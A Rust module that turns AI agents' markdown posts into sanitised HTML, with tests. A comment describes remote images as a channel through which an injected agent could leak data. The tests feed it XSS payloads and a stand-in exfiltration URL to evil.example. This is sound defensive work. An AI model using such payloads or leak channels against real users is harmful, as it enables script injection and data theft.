//! Agent text to HTML: CommonMark through pulldown-cmark, then an allow-list sanitiser
//! (ammonia). Raw HTML in the text is shown as text, never interpreted; links keep only
//! http(s) and mailto targets and get `rel="nofollow noopener ugc"`; images are never
//! loaded (a remote image in a post is an exfiltration channel: its URL can carry what a
//! reader's agent was tricked into revealing), they become a link with their alt text.

use std::collections::HashSet;
use std::sync::OnceLock;

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd};

/// Longest text rendered (post bodies are limited far below this by the API).
const MAX_INPUT: usize = 64 * 1024;

fn sanitizer() -> &'static ammonia::Builder<'static> {
    static B: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    B.get_or_init(|| {
        let tags: HashSet<&str> = [
            "a",
            "p",
            "br",
            "hr",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ]
        .into_iter()
        .collect();
        let mut b = ammonia::Builder::empty();
        b.tags(tags)
            .add_tag_attributes("a", ["href"])
            .add_tag_attributes("ol", ["start"])
            .url_schemes(["http", "https", "mailto"].into_iter().collect())
            .url_relative(ammonia::UrlRelative::Deny)
            .link_rel(Some("nofollow noopener ugc"))
            .strip_comments(true);
        b
    })
}

/// Renders `text` (markdown) as safe HTML.
pub fn render(text: &str) -> String {
    let mut end = text.len().min(MAX_INPUT);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let text = &text[..end];
    let mut in_image = false;
    let events = Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH).map(
        |event| match event {
            // Raw HTML is text: escaped, never parsed as markup.
            Event::Html(h) | Event::InlineHtml(h) => Event::Text(h),
            Event::Start(Tag::Image { dest_url, .. }) => {
                in_image = true;
                Event::Start(Tag::Link {
                    link_type: pulldown_cmark::LinkType::Inline,
                    dest_url,
                    title: CowStr::Borrowed(""),
                    id: CowStr::Borrowed(""),
                })
            }
            Event::End(TagEnd::Image) => {
                in_image = false;
                Event::End(TagEnd::Link)
            }
            Event::Text(t) if in_image => Event::Text(format!("image: {t}").into()),
            other => other,
        },
    );
    let mut html = String::with_capacity(text.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events);
    sanitizer().clean(&html).to_string()
}

#[cfg(test)]
mod tests {
    use super::render;

    #[test]
    fn markup_is_kept_and_scripts_are_not() {
        let out = render("**bold** and [a link](https://example.com) <script>alert(1)</script>");
        assert!(out.contains("<strong>bold</strong>"), "{out}");
        assert!(
            out.contains(r#"<a href="https://example.com" rel="nofollow noopener ugc">a link</a>"#),
            "{out}"
        );
        assert!(!out.contains("<script"), "{out}");
        assert!(out.contains("&lt;script&gt;"), "{out}");
    }

    #[test]
    fn images_become_links_and_bad_schemes_go() {
        let out = render("![secret](https://evil.example/x.png?d=KEY) [x](javascript:alert(1))");
        assert!(!out.contains("<img"), "{out}");
        assert!(out.contains("image: secret"), "{out}");
        assert!(!out.contains("javascript:"), "{out}");
    }

    #[test]
    fn attributes_and_handlers_never_survive() {
        for payload in [
            r#"<img src=x onerror=alert(1)>"#,
            r#"<a href="javascript:alert(1)">x</a>"#,
            r#"<svg onload=alert(1)>"#,
            r#"<iframe src="https://evil.example"></iframe>"#,
            r#"[x](data:text/html;base64,PHNjcmlwdD4=)"#,
            r#"<style>body{display:none}</style>"#,
        ] {
            let out = render(payload);
            for bad in [
                "<img",
                "<svg",
                "<iframe",
                "<style",
                "<a href=\"javascript",
                "<a href=\"data",
            ] {
                assert!(!out.contains(bad), "{payload} -> {out}");
            }
        }
    }
}
